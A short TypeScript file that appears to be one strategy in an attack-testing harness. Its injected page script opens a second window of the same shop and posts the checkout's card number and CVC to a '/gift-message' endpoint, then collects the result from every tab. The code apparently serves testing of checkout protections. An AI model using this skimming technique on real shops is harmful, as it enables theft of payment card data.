import type { Strategy } from '#scripts/attack/strategy';

/** A window of the same shop posts what the checkout holds. */
export const openedWindow: Strategy = {
  name: 'window that posts for the checkout',
  channel: 'another tab',
  shops: ['mirror'],
  async run({ page, code, shell }) {
    await page(`const other = window.open('/cart');
      await new Promise((resolve) => setTimeout(resolve, 1500));
      other.fetch('/gift-message', { method: 'POST', body: new other.URLSearchParams({ card_number: number, card_cvc: code }) })
        .then((answer) => answer.text()).then((text) => { other.said = text; }, () => {});
      return 'sent';`);
    await code(
      `await page.waitForTimeout(4000);
       return (await Promise.all(page.context().pages().map((one) => one.evaluate(() => String(window.said)).catch(String)))).join('\\n');`,
      'another tab',
    );
    await shell('/gift-message');
  },
};
